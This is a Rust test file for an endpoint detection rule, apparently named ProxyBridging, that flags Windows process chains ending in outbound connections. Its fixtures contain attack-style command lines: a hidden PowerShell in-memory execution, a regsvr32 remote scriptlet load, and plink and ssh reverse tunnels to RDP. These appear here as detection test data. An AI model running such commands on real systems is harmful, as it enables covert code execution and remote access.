use sandtrap_sdk::{
    Finding, json,
    testing::{self, TestEvent, World},
};

use super::*;

mod bridging;

const SHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const RUNDLL: &str = "C:\\Windows\\System32\\rundll32.exe";
const HIDDEN: &str =
    "powershell.exe -nop -w hidden -c \"$s=New-Object IO.Compression.GzipStream($m);IEX $s\"";
const DAY: i64 = 24 * 60 * 60 * 1000;

fn found(events: impl IntoIterator<Item = TestEvent>) -> Vec<Finding> {
    testing::run::<ProxyBridging>(World::new(), json!({}), json!({}), events)
}

fn parent(image: &str) -> TestEvent {
    testing::launch(3).image(image).at(1_000)
}

fn start(image: &str, line: &str) -> TestEvent {
    testing::launch(7)
        .child_of(3)
        .image(image)
        .command_line(line)
}

fn network(outbound: u64, ip: &str, port: u64) -> TestEvent {
    testing::event(class::NETWORK_OPEN)
        .by(7)
        .set(field::CONNECTION_INFO_OUTBOUND, outbound)
        .set(field::SRC_ENDPOINT_IP, "10.1.0.9")
        .set(field::SRC_ENDPOINT_PORT, 50_000)
        .set(field::DST_ENDPOINT_IP, ip)
        .set(field::DST_ENDPOINT_PORT, port)
}

fn connect(ip: &str, port: u64) -> TestEvent {
    network(1, ip, port)
}

fn by(image: &str, event: TestEvent) -> TestEvent {
    event.set(field::ACTOR_PROCESS_FILE_PATH, image)
}

#[test]
fn an_empty_rundll32_that_connects_is_found() {
    let events = [
        parent("C:\\Windows\\System32\\notepad.exe"),
        start(RUNDLL, "rundll32.exe"),
        connect("10.1.0.77", 8181),
    ];
    let found = found(events);
    let [finding] = found.as_slice() else {
        panic!("{found:?}")
    };
    assert_eq!(
        (finding.severity, finding.process),
        (Severity::High, Some(7))
    );
    assert!(
        finding
            .title
            .starts_with("rundll32.exe, started by notepad.exe,"),
        "{}",
        finding.title
    );
    assert!(
        finding.title.contains("10.1.0.77:8181"),
        "{}",
        finding.title
    );
}

#[test]
fn the_order_of_start_and_connection_does_not_matter() {
    let events = [
        parent("C:\\Windows\\System32\\wsmprovhost.exe"),
        by(SHELL, connect("10.1.0.77", 80)),
        start(SHELL, HIDDEN),
    ];
    assert_eq!(found(events).len(), 1);
}

#[test]
fn a_hidden_shell_of_remote_management_that_reaches_an_internal_peer_is_found() {
    let events = [
        parent("C:\\Windows\\System32\\wsmprovhost.exe"),
        start(SHELL, HIDDEN),
        connect("10.1.0.77", 80),
    ];
    assert_eq!(found(events).len(), 1);
}

#[test]
fn shells_in_between_are_looked_past() {
    let events = [
        testing::launch(2).image("C:\\Windows\\System32\\services.exe"),
        testing::launch(3)
            .child_of(2)
            .image("C:\\Windows\\System32\\cmd.exe"),
        testing::launch(4)
            .child_of(3)
            .image(SHELL)
            .command_line("powershell.exe"),
        testing::launch(7)
            .child_of(4)
            .image(SHELL)
            .command_line(HIDDEN),
        connect("198.51.100.7", 443),
    ];
    let found = found(events);
    assert!(
        found.iter().any(|finding| finding.process == Some(7)),
        "{found:?}"
    );
}

#[test]
fn a_service_host_that_is_none_is_found_only_with_a_connection() {
    let image = "C:\\Windows\\System32\\svchost.exe";
    let fake = [parent("C:\\Users\\a\\x.exe"), start(image, "svchost.exe")];
    assert!(found(fake.clone()).is_empty());
    for port in [443, 4444] {
        let connected = fake
            .clone()
            .into_iter()
            .chain([connect("198.51.100.7", port)]);
        assert_eq!(found(connected).len(), 1, "{port}");
    }
}

#[test]
fn every_weak_stage_alone_stays_silent() {
    let explorer = "C:\\Windows\\explorer.exe";
    let starts = [
        (explorer, SHELL, HIDDEN),
        (explorer, RUNDLL, "rundll32.exe"),
        (
            "C:\\Windows\\System32\\wsmprovhost.exe",
            SHELL,
            "powershell.exe",
        ),
        (
            explorer,
            "C:\\Windows\\System32\\regsvr32.exe",
            "regsvr32 /i:http://198.51.100.7/a scrobj.dll",
        ),
        (
            explorer,
            "C:\\Tools\\plink.exe",
            "plink -R 4444:127.0.0.1:3389 198.51.100.7",
        ),
    ];
    for (before, image, line) in starts {
        assert!(
            found([parent(before), start(image, line)]).is_empty(),
            "{line}"
        );
    }
    for port in [80, 443, 4444, 8080, 50_000] {
        let plain = [
            parent(explorer),
            start(SHELL, "powershell.exe"),
            connect("10.1.0.77", port),
        ];
        assert!(found(plain).is_empty(), "{port}");
    }
    assert!(found([by(SHELL, network(0, "10.1.0.9", 8080))]).is_empty());
    assert!(found([by(SHELL, connect("198.51.100.7", 8080))]).is_empty());
}

#[test]
fn a_stage_that_is_too_old_does_not_count() {
    let events = [
        parent("C:\\Windows\\System32\\notepad.exe"),
        start(RUNDLL, "rundll32.exe").at(2_000),
        connect("10.1.0.77", 8181).at(2_000 + 601_000),
    ];
    assert!(found(events).is_empty());
}

#[test]
fn what_the_baseline_calls_usual_is_not_new() {
    let events = || {
        [
            parent("C:\\Windows\\System32\\wsmprovhost.exe").at(40 * DAY),
            start(SHELL, HIDDEN).at(40 * DAY),
            connect("10.1.0.77", 80).at(40 * DAY + 1),
        ]
    };
    let run = |world| testing::run::<ProxyBridging>(world, json!({}), json!({}), events());
    let known = |since: i64| {
        World::new().learning_since("destinations", since).observed(
            "destinations",
            "powershell.exe 10.1.0.77",
            "device-1",
            since,
            9,
        )
    };
    assert!(run(known(0)).is_empty());
    // A baseline of a week knows nothing yet.
    assert_eq!(run(known(33 * DAY)).len(), 1);
}

#[test]
fn service_hosts_and_distribution_scripts_stay_silent() {
    let host = "C:\\Windows\\System32\\svchost.exe";
    for port in [5985, 7680, 443, 389] {
        assert!(
            found([by(host, connect("10.1.0.77", port))]).is_empty(),
            "{port}"
        );
    }
    let agent = [
        parent("C:\\Windows\\CCM\\CcmExec.exe"),
        start(
            SHELL,
            "powershell.exe -NonInteractive -WindowStyle Hidden -EncodedCommand RwBlAHQALQBEAGEAdABlAA==",
        ),
        connect("10.1.0.5", 443),
    ];
    assert!(found(agent).is_empty());
    let printer = [
        parent("C:\\Windows\\explorer.exe"),
        start(
            RUNDLL,
            "rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry /ga",
        ),
        connect("10.1.0.6", 9100),
    ];
    assert!(found(printer).is_empty());
    let task = [
        parent(host),
        start(SHELL, "powershell.exe -File C:\\Scripts\\inventory.ps1"),
        connect("10.1.0.6", 8530),
    ];
    assert!(found(task).is_empty());
}

#[test]
fn injected_code_that_connects_is_found() {
    let inject = testing::event(class::PROCESS_INJECT)
        .set(field::ACTOR_PROCESS_FILE_PATH, SHELL)
        .set(field::PROCESS_HANDLE, 7)
        .set(
            field::PROCESS_FILE_PATH,
            "C:\\Windows\\System32\\notepad.exe",
        );
    assert!(found([inject.clone()]).is_empty());
    let notepad = "C:\\Windows\\System32\\notepad.exe";
    assert_eq!(
        found([inject, by(notepad, connect("10.1.0.77", 443))]).len(),
        1
    );
}

#[test]
fn a_module_of_users_counts_unless_its_signature_holds() {
    use sandtrap_sdk::signatures::State;
    let module = "C:\\ProgramData\\Vendor\\x.dll";
    let run = |world| {
        let events = [
            parent("C:\\Windows\\explorer.exe"),
            start(RUNDLL, &format!("rundll32.exe {module},Start")),
            connect("198.51.100.7", 443),
        ];
        testing::run::<ProxyBridging>(world, json!({}), json!({}), events).len()
    };
    assert_eq!(run(World::new()), 1);
    assert_eq!(
        run(World::new().signature(module, State::Valid, "Vendor Ltd")),
        0
    );
}

#[test]
fn settings_that_make_no_sense_are_refused() {
    for settings in [
        json!({ "TimeWindow": 0 }),
        json!({ "DestinationPort": [0] }),
        json!({ "ParentProcessName": ["*"] }),
        json!({ "ParentProcessName": [""] }),
        json!({ "Threshold": 0 }),
        json!({ "timewindow": 5 }),
    ] {
        let refused = testing::refusal::<ProxyBridging>(settings.clone(), json!({}));
        assert!(refused.is_some(), "{settings}");
    }
    assert_eq!(
        testing::refusal::<ProxyBridging>(json!({}), json!({})),
        None
    );
}

#[test]
fn scheduled_scripts_that_talk_to_servers_are_silent() {
    for (image, line) in [
        (
            "C:\\Windows\\System32\\svchost.exe",
            "powershell.exe -NoProfile -WindowStyle Hidden -File C:\\Scripts\\report.ps1",
        ),
        (
            "C:\\Program Files\\Microsoft SQL Server\\Binn\\SQLAGENT.EXE",
            "powershell.exe -NoProfile -File D:\\index.ps1",
        ),
    ] {
        for port in [25, 1433] {
            let events = [
                parent(image),
                start(SHELL, line),
                connect("10.1.0.77", port),
            ];
            assert!(found(events).is_empty(), "{line} {port}");
        }
    }
}

#[test]
fn an_administrators_forward_to_a_database_is_silent() {
    let ssh = "C:\\Windows\\System32\\OpenSSH\\ssh.exe";
    let events = |what: &str| {
        [
            parent(SHELL),
            start(ssh, &format!("ssh {what} a@10.1.0.77")),
            by(ssh, connect("10.1.0.77", 22)),
        ]
    };
    assert!(found(events("-L 5433:db01:5432")).is_empty());
    assert_eq!(found(events("-N -R 5433:127.0.0.1:3389")).len(), 1);
}

#[test]
fn developers_builds_and_approved_agents_are_silent() {
    let build = |image: &str| {
        [
            parent("C:\\Windows\\explorer.exe"),
            start(image, "MSBuild.exe C:\\Users\\a\\source\\b.csproj"),
            connect("198.51.100.7", 443),
        ]
    };
    let installed = "C:\\Program Files\\Microsoft Visual Studio\\2022\\MSBuild.exe";
    let shipped = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe";
    assert!(found(build(installed)).is_empty());
    assert_eq!(found(build(shipped)).len(), 1);

    let agent = "C:\\Program Files\\Deployer\\agent.exe";
    let deploy = |site| {
        let line = format!("{HIDDEN} -e JABhAD0AMQA7ACQAYgA9ADIA");
        let events = [
            parent(agent),
            start(SHELL, &line),
            connect("10.1.0.77", 8080),
        ];
        testing::run::<ProxyBridging>(World::new(), json!({}), site, events)
    };
    assert_eq!(deploy(json!({})).len(), 1);
    assert!(deploy(json!({ "approved_deployment_paths": [agent] })).is_empty());
}
